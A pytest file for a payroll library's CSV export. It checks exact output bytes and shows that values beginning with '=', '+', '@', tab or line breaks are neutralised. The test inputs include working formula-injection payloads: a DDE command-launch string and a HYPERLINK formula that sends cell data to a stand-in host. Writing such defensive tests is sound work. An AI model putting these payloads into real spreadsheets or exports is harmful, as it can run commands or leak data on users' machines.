"""The ``csv`` format: exact bytes for the fixture period (pay hand-computed in conftest.py)."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from decimal import Decimal

import pytest

from payroll_exports import EmployeeTotals, EntryDetail, ExportContext, ExportError, get_format
from payroll_exports.formats.csv_basic import SUMMARY_HEADER

EXPECTED = (
    "employee_number,employee_name,period_start,period_end,regular_hours,overtime_hours,"
    "double_time_hours,hourly_rate,regular_pay,overtime_pay,double_time_pay,gross_pay,currency\n"
    "0005,Kim Lee,2026-11-16,2026-11-29,0.00,0.00,0.00,20.00,0.00,0.00,0.00,0.00,USD\n"
    "0042,José Núñez,2026-11-16,2026-11-29,40.00,1.50,0.00,25.50,1020.00,57.38,0.00,1077.38,USD\n"
    "0107,'+Dana O'Neil,2026-11-16,2026-11-29,30.25,0.00,2.00,18.00,544.50,0.00,72.00,616.50,USD\n"
).encode()


def test_exact_bytes(
    ctx: ExportContext, totals: Sequence[EmployeeTotals], details: Sequence[EntryDetail]
) -> None:
    content = get_format("csv").render(ctx, totals, details)
    assert content == EXPECTED
    assert b"\r" not in content  # LF only


def test_header_only_when_nobody_worked(ctx: ExportContext) -> None:
    content = get_format("csv").render(ctx, [], [])
    assert content == EXPECTED.split(b"\n")[0] + b"\n"


def test_names_with_commas_quotes_and_formulas_are_quoted_and_neutralised(
    ctx: ExportContext,
) -> None:
    row = EmployeeTotals(
        employee_number="0001",
        first_name='=HYPERLINK("x")',
        last_name="Smith, Jr.",
        hourly_rate=Decimal("15.125"),
        regular_seconds=3600,
    )
    content = get_format("csv").render(ctx, [row], []).decode("utf-8")
    assert content.splitlines()[1] == (
        '0001,"\'=HYPERLINK(""x"") Smith, Jr.",2026-11-16,2026-11-29,'
        "1.00,0.00,0.00,15.125,15.13,0.00,0.00,15.13,USD"
    )


def test_ids_keep_leading_zeros_and_a_sign_in_front_of_an_id_is_neutralised(
    ctx: ExportContext,
) -> None:
    rows = [
        EmployeeTotals("-007", "Ann", "Lee", Decimal("10.00")),
        EmployeeTotals("0042", "Bo", "Kim", Decimal("10.00")),
    ]
    lines = get_format("csv").render(ctx, rows, []).decode().splitlines()
    # employee_number is text a manager types: "-2+3" in it is as live as in a name.
    assert [line.split(",")[0] for line in lines[1:]] == ["'-007", "0042"]


@pytest.mark.parametrize(
    ("employee_number", "cell"),
    [
        pytest.param("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", id="dde"),
        pytest.param(
            '=HYPERLINK("http://x.example/?"&A1)',
            '"\'=HYPERLINK(""http://x.example/?""&A1)"',
            id="hyperlink",
        ),
        pytest.param("+1+1", "'+1+1", id="plus"),
        pytest.param("@SUM(1)", "'@SUM(1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1+1", '"\'\r=1+1"', id="leading-cr"),
        pytest.param("12\r34", '"12\r34"', id="inner-cr"),
        pytest.param("12\n34", '"12\n34"', id="inner-lf"),
    ],
)
def test_employee_number_is_neutralised_and_a_line_break_in_it_is_quoted(
    ctx: ExportContext, employee_number: str, cell: str
) -> None:
    row = EmployeeTotals(employee_number, "Ann", "Lee", Decimal("10.00"), regular_seconds=3600)
    content = get_format("csv").render(ctx, [row], []).decode()
    assert content == (
        ",".join(SUMMARY_HEADER)
        + "\n"
        + f"{cell},Ann Lee,2026-11-16,2026-11-29,1.00,0.00,0.00,10.00,10.00,0.00,0.00,10.00,USD\n"
    )
    # Read back as a spreadsheet would: still one record, the number kept after the quote.
    records = list(csv.reader(io.StringIO(content, newline="")))
    assert len(records) == 2
    assert records[1][0].lstrip("'") == employee_number


def test_duplicate_employee_is_an_error(ctx: ExportContext) -> None:
    row = EmployeeTotals("0001", "Ann", "Lee", Decimal("10.00"))
    with pytest.raises(ExportError, match="appears twice"):
        get_format("csv").render(ctx, [row, row], [])
